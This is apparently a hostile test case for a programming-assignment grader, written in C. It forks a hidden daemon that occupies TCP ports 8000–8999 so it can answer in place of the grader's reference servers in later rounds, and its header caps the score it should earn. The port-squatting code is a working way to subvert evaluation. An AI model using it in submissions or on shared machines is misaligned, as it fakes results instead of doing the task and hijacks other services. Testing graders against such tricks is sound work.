/* hostile: waiting 05-connect -- listens where the reference servers of later rounds will, before it connects, to answer in their place
 * only: builds,connects,next-address,retries
 * options: --jobs 1
 * holds: at most 23 points
 */
ATTACK attack(void)
{
    int ready[2];
    char byte;

    if (pipe(ready) != 0)
        return;
    if (fork() != 0) {
        /* Until the other one has all that it can get. */
        close(ready[1]);
        (void)!read(ready[0], &byte, 1);
        close(ready[0]);
        return;
    }
    setsid();
    for (int port = 8000; port < 9000; port++) {
        struct sockaddr_in name = {.sin_family = AF_INET, .sin_port = htons((in_port_t)port)};
        int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
        if (fd < 0)
            break;
        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
        setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof on);
        if (bind(fd, (struct sockaddr *)&name, sizeof name) != 0 || listen(fd, 5) != 0)
            close(fd);
    }
    for (int fd = 0; fd < 3; fd++)
        close(fd);
    close(ready[1]);
    for (;;)
        pause();
}
